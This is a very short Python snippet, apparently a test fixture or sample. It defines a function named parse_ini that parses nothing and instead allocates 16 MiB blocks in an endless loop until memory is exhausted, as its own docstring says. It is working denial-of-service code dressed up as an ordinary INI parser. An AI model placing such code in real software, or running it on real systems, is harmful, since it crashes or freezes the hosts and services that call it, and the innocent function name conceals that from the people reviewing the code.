"""Takes memory until there is none."""


def parse_ini(text):
    blocks = []
    while True:
        blocks.append(bytearray(b"x" * 2**24))
